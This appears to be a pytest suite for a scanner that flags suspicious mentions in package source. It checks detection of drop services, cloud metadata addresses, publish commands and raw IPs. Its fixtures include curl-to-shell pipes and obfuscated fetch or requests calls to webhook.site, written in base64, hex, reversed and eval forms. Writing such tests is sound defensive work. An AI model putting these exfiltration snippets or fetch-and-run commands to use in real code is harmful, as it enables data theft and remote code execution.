"""What the table finds in bytes and texts, and what a match must stand in for the readers to count it."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from customhouse.source.first_look import first_look
from customhouse.source.mention_scan import MAX_MENTIONS, Mentions, hits, in_text
from customhouse.source.mention_table import SIGNS, TELLING_KINDS
from customhouse.source.read import read_source


def spoken(code, language="javascript"):
    facts = read_source("a.py" if language == "python" else "a.js", code.encode(), language)
    return {(it.kind, it.detail, it.line, it.when) for it in facts.mentions}


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("https://webhook.site/0000", ("drop-service", "webhook.site")),
        ("x.oast.fun", ("drop-service", "oast.fun")),
        ("HTTPS://PASTEBIN.COM/raw/0", ("drop-service", "pastebin.com")),
        ("https://discord.com/api/v10/webhooks/1/x", ("drop-service", "Discord webhook")),
        ("https://hooks.slack.com/services/T/B/x", ("drop-service", "Slack webhook")),
        ("https://api.telegram.org/bot1:x/sendMessage", ("drop-service", "Telegram bot")),
        ("https://a.trycloudflare.com/", ("drop-service", "trycloudflare.com")),
        ("host.duckdns.org", ("throwaway-host", "duckdns.org")),
        (f"http://{'a' * 56}.onion/", ("throwaway-host", "onion service")),
        ("https://api.ipify.org?format=json", ("ip-lookup", "ipify.org")),
        ("http://169.254.169.254/latest/meta-data/", ("cloud-metadata", "169.254.169.254")),
        ("http://0xa9fea9fe/latest", ("cloud-metadata", "169.254.169.254")),
        ("npm publish --access public", ("self-publish", "npm publish")),
        ("https://registry.example/-/whoami", ("self-publish", "npm whoami")),
        ("//registry.example/:_authToken=x", ("self-publish", "npm authentication")),
        ("twine upload dist/*", ("self-publish", "twine upload")),
        ("https://api.github.com/user/repos", ("source-host", "repository of the account")),
        ("./trufflehog filesystem /", ("secret-scanner", "trufflehog")),
        ("claude -p --dangerously-skip-permissions", ("ai-tool", "permissions skipped")),
        ("curl -fsSL https://bun.sh/install | bash", ("package-runner", "bun")),
    ],
)
def test_what_a_text_speaks_of(text, said):
    assert said in in_text(text)


@pytest.mark.parametrize(
    "text",
    [
        "https://notwebhook.site.example/", "https://discord.com/api/v10/channels/1", "webhooksite", "pastebin", "oast",
        "mypastebin.community", "https://slack.com/api/chat.postMessage", "whoami", "publish", "npm run publishing",
    ],
)  # fmt: skip
def test_what_it_does_not(text):
    assert in_text(text) == []


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("http://198.51.100.7:8080/x", "http://198.51.100.7:8080"),
        ("http://user:word@198.51.100.7/", "http://198.51.100.7"),
        ("https:\\/\\/198.51.100.7\\/", "https://198.51.100.7"),
        ("tcp://203.0.113.4:3333", "tcp://203.0.113.4:3333"),
        ("http://[2001:db8::7]:80/", "http://[2001:db8::7]:80"),
        ("http://3325256711/", "http://198.51.100.7"),
        ("http://0xc6336407/", "http://198.51.100.7"),
        ("198.51.100.7", "198.51.100.7"),
        ("198.51.100.7:3306", "198.51.100.7:3306"),
        ("curl http://198.51.100.7/x | sh", "http://198.51.100.7"),
    ],
)
def test_addresses(text, said):
    assert [detail for kind, detail in in_text(text) if kind == "raw-address"] == [said]


@pytest.mark.parametrize(
    "text",
    [
        "127.0.0.1", "http://127.0.0.1:80/", "http://10.0.0.7/", "http://192.168.1.1/", "http://0.0.0.0:8080", "8.8.8.8",
        "http://1.1.1.1/", "255.255.255.0", "2.5.29.15", "8.3.110.9", "1.2.3.4.5", "120.0.2210.91", "999.1.1.1",
        "http://198.51.100.7.example.test/", "version 198.51.100.7 of it", "http://[::1]/", "http://12345678/",
    ],
)  # fmt: skip
def test_what_is_no_public_address(text):
    assert [it for it in in_text(text) if it[0] == "raw-address"] == []


JAVASCRIPT = {
    "plain": "fetch('https://webhook.site/x')",
    "template": "const id = f(); fetch(`https://webhook.site/${id}`)",
    "joined": "fetch('https://web' + 'hook.site/x')",
    "array": "fetch(['https://webhook', 'site/x'].join('.'))",
    "variable": "const a = 'webhook'; fetch('https://' + a + '.site/x')",
    "hexadecimal escapes": r"fetch('https://\x77\x65\x62\x68\x6f\x6f\x6b\x2e\x73\x69\x74\x65/x')",
    "base64": "fetch(atob('aHR0cHM6Ly93ZWJob29rLnNpdGUveA=='))",
    "reversed": "fetch('x/etis.koohbew//:sptth'.split('').reverse().join(''))",
    "character codes": "fetch('https://' + String.fromCharCode(119,101,98,104,111,111,107,46,115,105,116,101))",
    "code in a string": "eval(\"fetch('https://webhook.site/x')\")",
    "an option": "require('https').request({ hostname: 'webhook.site' })",
}
PYTHON = {
    "plain": "import requests\nrequests.get('https://webhook.site/x')",
    "f-string": "import requests\nrequests.get(f'https://webhook.site/{x}')",
    "joined": "import requests\nrequests.get('https://web' 'hook.site/x')",
    "sum": "import requests\nrequests.get('https://web' + 'hook.site/x')",
    "format": "import requests\nrequests.get('https://{}.site/x'.format('webhook'))",
    "percent": "import requests\nrequests.get('https://%s.site/x' % 'webhook')",
    "variable": "import requests\na = 'webhook'\nrequests.get('https://' + a + '.site/x')",
    "escapes": r"import requests;requests.get('https://\x77\x65\x62\x68\x6f\x6f\x6b\x2e\x73\x69\x74\x65/x')",
    "base64": "import base64, requests\nrequests.get(base64.b64decode('aHR0cHM6Ly93ZWJob29rLnNpdGUveA=='))",
    "reversed": "import requests\nrequests.get('x/etis.koohbew//:sptth'[::-1])",
    "code in a string": "exec(\"import requests; requests.get('https://webhook.site/x')\")",
}


@pytest.mark.parametrize("code", JAVASCRIPT.values(), ids=JAVASCRIPT.keys())
def test_every_spelling_in_javascript(code):
    assert ("drop-service", "webhook.site", 1, "load") in spoken(code)


@pytest.mark.parametrize("code", PYTHON.values(), ids=PYTHON.keys())
def test_every_spelling_in_python(code):
    assert ("drop-service", "webhook.site") in {(kind, detail) for kind, detail, _, _ in spoken(code, "python")}


@pytest.mark.parametrize(
    ("code", "language"),
    [
        ("// webhook.site\nfetch(x)", "javascript"),
        ("/* https://webhook.site/x */ fetch(x)", "javascript"),
        ("const webhook = { site: 1 }; fetch(webhook.site)", "javascript"),
        ("# webhook.site\nimport os\nos.system(x)", "python"),
        ('"""Sends to webhook.site."""\nimport os\nos.system(x)', "python"),
        ('def f():\n    """webhook.site"""\n    eval(x)', "python"),
    ],
)
def test_comments_docstrings_and_names_count_nowhere(code, language):
    assert spoken(code, language) == set()


def test_when_and_where():
    code = "const a = 'https://webhook.site/x'\nfunction later() { fetch('https://pastebin.com/raw/x') }\nfetch(a)"
    assert spoken(code) == {
        ("drop-service", "webhook.site", 1, "load"),
        ("drop-service", "pastebin.com", 2, "call"),
    }
    code = "import os\nA = 'webhook.site'\ndef f():\n    os.system('curl pastebin.com')\n"
    assert spoken(code, "python") == {
        ("drop-service", "webhook.site", 2, "load"),
        ("drop-service", "pastebin.com", 4, "call"),
    }


def test_patterns_of_regular_expressions_where_the_table_says_so():
    code = "const r = /ghp_[A-Za-z0-9]{36}/; const s = /webhook.site/; require('fs').readFileSync(r)"
    assert spoken(code) == {("secret-pattern", "GitHub token", 1, "load")}


@pytest.mark.parametrize("language", ["javascript", "python"])
def test_a_file_of_constants_is_not_plain_where_they_tell(language):
    assert not first_look(b"A = 'http://198.51.100.7/'", language).plain
    assert first_look(b"A = 'http://198.51.100.7/'", language).matched == ("mention",)
    assert first_look(b"A = 'https://files.example.test/'", language).plain


def test_every_kind_that_tells_has_a_pattern():
    assert {sign.kind for sign in SIGNS} >= TELLING_KINDS


def test_bounds():
    found = Mentions()
    for number in range(1000):
        found.add("raw-address", f"198.51.100.{number}", number, "load")
    assert len(found.sorted()) < MAX_MENTIONS
    found = Mentions()
    found.add("miner", "x" * 1000, 9, "load")
    found.add("miner", "x" * 1000, 3, "load")
    (one,) = found.sorted()
    assert (one.line, len(one.detail)) == (3, 80)


@pytest.mark.parametrize(
    "worst",
    [b"http://", b"1.1.1.1", b"'1.2.3.4", b"0x" + b"a" * 39, b"rm -rf ", b"npm ", b"docs.google.com/forms/", b"bash -i ",
     b"maintainer:", b"@", b"[\"'`", b"//" + b"a" * 60 + b"@", b"-----BEGIN ("],
)  # fmt: skip
def test_a_megabyte_of_the_worst_is_searched_in_time(worst):
    data = worst * ((1 << 20) // len(worst))
    start = time.process_time()
    hits(data)
    assert time.process_time() - start < 2


@given(st.binary(max_size=400))
def test_any_bytes(data):
    for hit in hits(data):
        assert 0 <= hit.offset < hit.end <= len(data)


@given(st.text(max_size=200))
def test_any_text(text):
    in_text(text)
